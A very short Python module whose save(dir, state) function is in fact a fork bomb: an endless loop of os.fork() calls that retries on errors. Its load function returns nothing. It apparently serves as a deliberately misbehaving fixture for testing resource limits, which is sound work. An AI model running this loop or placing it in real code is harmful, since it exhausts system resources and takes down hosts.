"""Forks without end."""

import os


def save(dir, state):
    while True:
        try:
            os.fork()
        except OSError:
            continue


def load(dir):
    return None
